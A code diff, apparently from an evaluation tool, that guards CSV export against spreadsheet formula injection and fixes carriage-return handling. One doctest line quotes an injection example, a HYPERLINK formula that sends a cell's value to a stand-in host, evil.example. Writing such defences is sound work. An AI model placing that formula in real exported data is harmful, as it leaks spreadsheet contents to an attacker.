@@ -171,14 +171,15 @@ class Report:
         return text
 
     def to_csv(self, path: PathOrFile | None = None) -> str:
-        """CSV with a header; lists are joined with ``;``; NaN is an empty cell."""
+        """CSV with a header; every cell through :func:`csv_cell` (lists joined with ``;``, NaN empty, text that
+        a spreadsheet would run as a formula quoted, :func:`spreadsheet_safe`)."""
         records = self.to_records()
         columns = list(dict.fromkeys(k for r in records for k in r))
         buffer = io.StringIO()
-        writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
+        writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator=CSV_LINE_END)
         writer.writeheader()
         for r in records:
-            writer.writerow({k: ";".join(map(str, v)) if isinstance(v, list) else v for k, v in r.items()})
+            writer.writerow({k: csv_cell(v) for k, v in r.items()})
         _write(path, buffer.getvalue())
         return buffer.getvalue()
 
@@ -270,10 +271,50 @@ def spreadsheet_safe(value: Any) -> Any:
     '=HYPERLINK("http://evil.example/?x="&A2,"click")
     >>> spreadsheet_safe("-1.5"), spreadsheet_safe(-1.5), spreadsheet_safe("a dog")
     ("'-1.5", -1.5, 'a dog')
+
+    A text that already looks neutralised (quotes, then a formula start) gets one more quote, so
+    :func:`from_spreadsheet_safe` gives back exactly what was written:
+
+    >>> spreadsheet_safe("'=x"), from_spreadsheet_safe(spreadsheet_safe("'=x")), from_spreadsheet_safe("'=x")
+    ("''=x", "'=x", '=x')
     """
-    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+    if isinstance(value, str) and value.lstrip("'").startswith(_FORMULA_STARTS):
         return "'" + value
     return value
+
+
+def from_spreadsheet_safe(cell: Any) -> Any:
+    """The text :func:`spreadsheet_safe` was given, from the cell it wrote: one leading quote dropped where
+    quotes are followed by a formula start (mmjudge's own CSV readers, e.g. score files read back by the
+    meta-evaluation). Every other cell is returned as it is.
+
+    >>> from_spreadsheet_safe("'-1.5"), from_spreadsheet_safe("'tis"), from_spreadsheet_safe(2.0)
+    ('-1.5', "'tis", 2.0)
+    """
+    if isinstance(cell, str) and cell.startswith("'") and cell.lstrip("'").startswith(_FORMULA_STARTS):
+        return cell[1:]
+    return cell
+
+
+# RFC 4180 line ends. Why not "\n": Python's csv writer quotes a cell only for the characters of its line end,
+# so with "\n" a carriage return inside a cell (a text starting with "\r", say) was written bare, and every
+# reader split the row there.
+CSV_LINE_END = "\r\n"
+
+
+def csv_cell(value: Any) -> Any:
+    """A value as a CSV cell: lists joined with ``;``, ``None``/NaN empty, and text a spreadsheet would run as a
+    formula neutralised (:func:`spreadsheet_safe`). The one cell writer of every CSV the CLI and the engine
+    write (``score --output x.csv``, ``--format csv``, :meth:`Report.to_csv`, the meta-evaluation tables).
+
+    >>> csv_cell(["a", "b"]), csv_cell(float("nan")), csv_cell(2.5), csv_cell("@SUM(A1)"), csv_cell(["-1", "x"])
+    ('a;b', '', 2.5, "'@SUM(A1)", "'-1;x")
+    """
+    if isinstance(value, (list, tuple)):
+        value = ";".join(map(str, value))
+    if value is None or (isinstance(value, float) and math.isnan(value)):
+        return ""
+    return spreadsheet_safe(value)
 
 
 # Characters that change how a text is shown without showing themselves: bidirectional overrides,
